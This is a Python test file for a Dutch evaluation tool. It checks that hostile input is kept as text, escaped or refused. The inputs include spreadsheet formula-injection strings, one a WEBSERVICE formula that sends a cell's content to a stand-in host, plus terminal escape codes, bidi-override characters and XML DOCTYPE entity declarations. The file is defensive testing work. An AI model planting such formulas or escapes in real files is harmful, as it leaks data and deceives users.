"""Hostile content (issue 28): formulas, duplicate keys, foreign evidence, terminal escapes,
DOCTYPEs and characters the report cannot print. Each case is a Dutch message naming the
file and place, or a workbook that holds text where the input held text."""

from __future__ import annotations

import datetime as dt
import re
import shutil
import subprocess
import zipfile
from pathlib import Path

import openpyxl
import pytest
from docx import Document
from typer.testing import CliRunner

from evaltools.cli import app
from evaltools.ingest.wederhoor import DraftStatement
from evaltools.ingest.wederhoor_form import read_response_form, write_response_form
from evaltools.new_round.forms import load_config
from tests.support.checks import messages
from tests.support.files import edit

HOSTILE_GOAL = '=WEBSERVICE("http://example.invalid/?"&B3)&"x"'
HOSTILE_STATEMENT = '=HYPERLINK("http://example.invalid","klik hier")'


def _as_text(cell: openpyxl.cell.Cell, value: str) -> None:
    """Put text that starts with '=' in a cell as a hub's typed text (not a formula)."""
    cell.value = value
    cell.data_type = "s"


def _libreoffice_values(workbook: Path, sheet: int, tmp_path: Path) -> list[str]:
    """The cells of one sheet as LibreOffice calculates them (CSV export), one line per row."""
    soffice = shutil.which("soffice") or shutil.which("libreoffice")
    if soffice is None:
        pytest.skip("LibreOffice is not installed: the formula check needs its calculation")
    out = tmp_path / "csv"
    subprocess.run(
        [
            soffice,
            f"-env:UserInstallation=file://{tmp_path / 'lo-profile'}",
            "--headless",
            "--convert-to",
            f"csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,{sheet}",
            "--outdir",
            str(out),
            str(workbook),
        ],
        check=True,
        capture_output=True,
        timeout=180,
    )
    (csv,) = out.glob("*.csv")
    return csv.read_text(encoding="utf-8").splitlines()


def _calc_flag(workbook: Path) -> str:
    with zipfile.ZipFile(workbook) as package:
        return re.search(r"<calcPr[^>]*>", package.read("xl/workbook.xml").decode()).group()


def test_next_rounds_form_keeps_a_goal_that_looks_like_a_formula_as_text(
    mini_round: Path, tmp_path: Path
) -> None:
    form = mini_round / "zelfevaluaties" / "alpha.xlsx"
    workbook = openpyxl.load_workbook(form)
    _as_text(workbook["Doelen"]["B2"], HOSTILE_GOAL)
    workbook.save(form)
    folder = tmp_path / "mini-ronde-2"
    folder.mkdir()
    config = (mini_round / "round.yaml").read_text(encoding="utf-8")
    (folder / "round.yaml").write_text(config.replace("ronde: mini-ronde", "ronde: mini-ronde-2"))
    out = tmp_path / "formulieren"
    command = ["template", "zelfevaluatie", str(folder), "--vorige", str(mini_round)]
    result = CliRunner().invoke(app, [*command, "--out", str(out)])
    assert result.exit_code == 0, result.output
    cell = openpyxl.load_workbook(out / "alpha.xlsx")["Doelen"]["B2"]
    assert (cell.value, cell.data_type) == (HOSTILE_GOAL, "s")
    assert 'fullCalcOnLoad="1"' not in _calc_flag(out / "alpha.xlsx")
    # LibreOffice shows the text as typed: nothing is calculated or fetched
    rows = _libreoffice_values(out / "alpha.xlsx", 2, tmp_path)
    assert HOSTILE_GOAL.replace('"', '""') in rows[1]


def test_wederhoor_form_keeps_a_statement_that_looks_like_a_formula_as_text(
    tmp_path: Path,
) -> None:
    config = load_config(Path(__file__).parents[2] / "data" / "mini-ronde")
    statements = [
        DraftStatement("alpha-1", "Robuustheid: sterkte 1", HOSTILE_STATEMENT, ()),
        DraftStatement("alpha-2", "Robuustheid: sterkte 2", "+31 6 is geen formule", ()),
        DraftStatement("alpha-3", "Robuustheid: sterkte 3", "@SUM(1,1)", ()),
    ]
    path = tmp_path / "alpha.xlsx"
    write_response_form(path, config, "alpha", statements, "0" * 64, dt.date(2026, 7, 1))
    sheet = openpyxl.load_workbook(path)["Reacties"]
    texts = [sheet.cell(row, 3) for row in range(1, sheet.max_row + 1)]
    written = [(c.value, c.data_type) for c in texts if c.value in {s.text for s in statements}]
    assert written == [(s.text, "s") for s in statements]
    assert 'fullCalcOnLoad="1"' not in _calc_flag(path)
    rows = _libreoffice_values(path, 2, tmp_path)
    assert any(HOSTILE_STATEMENT.replace('"', '""') in row for row in rows)
    assert not any(row.split(",")[2] == "klik hier" for row in rows if row.count(",") >= 2)


def test_a_formula_in_a_returned_response_form_is_named(tmp_path: Path) -> None:
    config = load_config(Path(__file__).parents[2] / "data" / "mini-ronde")
    path = tmp_path / "alpha.xlsx"
    statement = DraftStatement("alpha-1", "Robuustheid: sterkte 1", "Een vaste leider.", ())
    write_response_form(path, config, "alpha", [statement], "0" * 64, dt.date(2026, 7, 1))
    workbook = openpyxl.load_workbook(path)
    row = next(r for r in range(1, 40) if workbook["Reacties"].cell(r, 1).value == "alpha-1")
    workbook["Reacties"].cell(row, 5).value = '=CONCAT("ni", "ets")'
    workbook.save(path)
    form, problems = read_response_form(path, "mini-ronde/wederhoor/alpha.xlsx")
    assert form is None
    assert [str(p) for p in problems] == [
        f"mini-ronde/wederhoor/alpha.xlsx, Reacties!E{row}: gevonden een formule "
        '(=CONCAT("ni", "ets")) in plaats van tekst; verwacht: de tekst zelf, zonder formule; '
        "begint de tekst met '=', typ dan eerst een apostrof (') zodat Excel of LibreOffice "
        "hem als tekst bewaart."
    ]


def test_a_formula_in_a_zelfevaluatie_text_cell_is_named(mini_round: Path) -> None:
    form = mini_round / "zelfevaluaties" / "alpha.xlsx"
    workbook = openpyxl.load_workbook(form)
    workbook["Doelen"]["D2"] = '=HYPERLINK("http://example.invalid","zie hier")'
    workbook.save(form)
    assert messages(mini_round) == [
        "mini-ronde/zelfevaluaties/alpha.xlsx, Doelen!D2: gevonden een formule "
        '(=HYPERLINK("http://example.invalid","zie…) in plaats van tekst; verwacht: de tekst '
        "zelf, zonder formule; begint de tekst met '=', typ dan eerst een apostrof (') zodat "
        "Excel of LibreOffice hem als tekst bewaart."
    ]


def test_a_key_written_twice_in_an_assessment_is_refused_with_both_lines(
    mini_round: Path,
) -> None:
    edit(
        mini_round / "beoordeling" / "alpha.yaml", "    score: 3\n", "    score: 3\n    score: 1\n"
    )
    assert messages(mini_round) == [
        "mini-ronde/beoordeling/alpha.yaml, regel 17: veld 'score': gevonden de sleutel 'score' "
        "twee keer: op regel 16 en op regel 17; verwacht: elke sleutel één keer per niveau; "
        "houd de juiste waarde en verwijder de andere regel."
    ]


def test_a_second_date_in_round_yaml_is_named_once(mini_round: Path) -> None:
    edit(mini_round / "round.yaml", "datum: 2026-06-30\n", "datum: 2026-06-30\ndatum: 2024-01-01\n")
    assert messages(mini_round) == [
        "mini-ronde/round.yaml, regel 11: veld 'datum': gevonden de sleutel 'datum' twee keer: "
        "op regel 10 en op regel 11; verwacht: elke sleutel één keer per niveau; houd de juiste "
        "waarde en verwijder de andere regel."
    ]


def test_a_statement_citing_another_hubs_evidence_is_refused(mini_round: Path) -> None:
    edit(
        mini_round / "beoordeling" / "alpha.yaml",
        "bronnen: [iv-alpha-bedrijven-1, ze-alpha-kpi-1]",
        "bronnen: [iv-alpha-bedrijven-1, ze-beta-doel-1]",
    )
    assert messages(mini_round) == [
        "mini-ronde/beoordeling/alpha.yaml, regel 27: veld 'criteria.bedrijven.sterktes[1]."
        "bronnen': gevonden 'ze-beta-doel-1', een bron van een andere hub: Technohub Beta "
        "(beta); verwacht: alleen bronnen van Technohub Alpha (alpha); is de bron echt gedeeld "
        "(bijv. een gezamenlijk interview), zet haar dan in round.yaml onder "
        "'gedeelde_bronnen' met de hubs die haar mogen noemen (docs/ronde.md)."
    ]
    # declared shared, the citation stands; a shared source must exist and name known hubs
    (mini_round / "round.yaml").write_text(
        (mini_round / "round.yaml").read_text(encoding="utf-8")
        + "gedeelde_bronnen:\n"
        + "  - {bron: ze-beta-doel-*, hubs: [alpha], reden: gezamenlijk doel}\n"
        + "  - {bron: iv-beta-onbekend-9, hubs: [delta], reden: vergissing}\n",
        encoding="utf-8",
    )
    found = messages(mini_round)
    assert not any("ze-beta-doel-1" in message for message in found)
    assert found == [
        "mini-ronde/round.yaml, regel 50: veld 'gedeelde_bronnen[2].bron': gevonden "
        "'iv-beta-onbekend-9', een bron die niet bestaat; verwacht: de code van een "
        "zelfevaluatie-antwoord (ze-...) of interviewfragment (iv-...), of het begin van codes "
        "met '*' (bijv. iv-tint-*).",
        "mini-ronde/round.yaml, regel 50: veld 'gedeelde_bronnen[2].hubs': gevonden 'delta', "
        "een hub die niet in round.yaml staat; verwacht: een hub-code uit 'hubs' van "
        "round.yaml: alpha, beta, gamma.",
    ]


ESCAPES = "\x1b[2J\x1b]0;gekaapt\x07"


def test_terminal_escapes_in_a_note_are_printed_escaped(mini_round: Path) -> None:
    edit(
        mini_round / "interviews" / "alpha.md",
        "## Structurele betrokkenheid van bedrijven",
        f"## Bedrijven{ESCAPES}",
    )
    result = CliRunner().invoke(app, ["validate", str(mini_round)])
    assert result.exit_code == 1
    assert "\x1b" not in result.output and "\x07" not in result.output
    assert "<U+001B>[2J<U+001B>]0;gekaapt<U+0007>" in result.output


@pytest.mark.parametrize(
    ("old", "new", "field", "found"),
    [
        (
            "naam: Technohub Beta",
            "naam: Technohub \u202eateB",
            "hubs[2].naam",
            "'Technohub <U+202E>ateB' met een richtingsteken (U+202E)",
        ),
        (
            "naam: Ontwikkelfase en robuustheid",
            'naam: "Ontwikkelfase\\u200b en robuustheid\\e[2J"',
            "criteria[1].naam",
            "'Ontwikkelfase<U+200B> en robuustheid<U+001B>[2J' met een teken zonder breedte "
            "(U+200B), een stuurteken (U+001B)",
        ),
    ],
)
def test_unsafe_characters_in_names_are_refused(
    mini_round: Path, old: str, new: str, field: str, found: str
) -> None:
    edit(mini_round / "round.yaml", old, new)
    (message,) = messages(mini_round)
    assert message.startswith("mini-ronde/round.yaml, regel ")
    assert message.endswith(
        f"veld '{field}': gevonden {found}; verwacht: gewone tekst, zonder stuurtekens, "
        "richtingstekens of tekens zonder breedte (die een terminal laten springen of tekst "
        "omgekeerd tonen); typ de tekst opnieuw."
    )
    assert "\u202e" not in message and "\x1b" not in message


def test_a_bidi_override_in_a_hubs_answer_is_refused(mini_round: Path) -> None:
    form = mini_round / "zelfevaluaties" / "alpha.xlsx"
    workbook = openpyxl.load_workbook(form)
    workbook["Doelen"]["D2"] = "Op schema \u202egnirdjib\u202c"
    workbook.save(form)
    assert messages(mini_round) == [
        "mini-ronde/zelfevaluaties/alpha.xlsx, Doelen!D2: gevonden tekst met een richtingsteken "
        "(U+202E), een richtingsteken (U+202C); verwacht: gewone tekst; zulke onzichtbare tekens "
        "laten een terminal springen of tonen tekst omgekeerd; typ de tekst opnieuw of "
        "verwijder het teken."
    ]


def test_an_emoji_in_a_hub_name_is_refused_before_the_render(mini_round: Path) -> None:
    edit(mini_round / "round.yaml", "naam: Technohub Alpha", "naam: Technohub Alpha 🚀")
    assert messages(mini_round) == [
        "mini-ronde/round.yaml, regel 29: veld 'hubs[1].naam': gevonden het teken '🚀' "
        "(U+1F680), dat het lettertype van het rapport (Source Sans Pro) niet kan tonen; "
        "verwacht: tekst met letters en tekens die het rapport kan tonen (de PDF zou "
        "mislukken); laat het teken weg of schrijf het uit in woorden."
    ]


def _with_doctype(package: Path, part: str) -> None:
    """Rewrite one XML part of an Office file with a DOCTYPE that declares an entity."""
    with zipfile.ZipFile(package) as source:
        items = [(info, source.read(info.filename)) for info in source.infolist()]
    with zipfile.ZipFile(package, "w", zipfile.ZIP_DEFLATED) as target:
        for info, data in items:
            if info.filename == part:
                text = data.decode("utf-8")
                declaration = text.index("?>") + 2 if "?>" in text else 0
                data = (
                    text[:declaration] + '<!DOCTYPE x [<!ENTITY e "geheim">]>' + text[declaration:]
                ).encode("utf-8")
            target.writestr(info, data)


def test_a_doctype_in_a_sheet_is_refused_naming_the_file(mini_round: Path) -> None:
    form = mini_round / "zelfevaluaties" / "alpha.xlsx"
    _with_doctype(form, "xl/worksheets/sheet2.xml")
    assert messages(mini_round) == [
        "mini-ronde/zelfevaluaties/alpha.xlsx, xl/worksheets/sheet2.xml: gevonden een "
        "XML-DOCTYPE (een verklaring met eigen 'entiteiten') in het bestand, die Excel en Word "
        "zelf nooit schrijven; verwacht: een bestand zoals Excel, Word of LibreOffice het "
        "opslaat; het bestand is niet gelezen; open het in Excel of Word en sla het opnieuw "
        "op, of vraag om het oorspronkelijke bestand."
    ]


def test_a_doctype_in_a_word_note_is_refused_not_cut(mini_round: Path) -> None:
    note = mini_round / "interviews" / "beta.docx"
    document = Document()
    document.add_paragraph("hub: beta")
    document.save(str(note))
    (mini_round / "interviews" / "beta.md").unlink()
    _with_doctype(note, "word/document.xml")
    found = messages(mini_round)
    assert (
        "mini-ronde/interviews/beta.docx, word/document.xml: gevonden een XML-DOCTYPE (een "
        "verklaring met eigen 'entiteiten') in het bestand, die Excel en Word zelf nooit "
        "schrijven; verwacht: een bestand zoals Excel, Word of LibreOffice het opslaat; het "
        "bestand is niet gelezen; open het in Excel of Word en sla het opnieuw op, of vraag om "
        "het oorspronkelijke bestand."
    ) in found
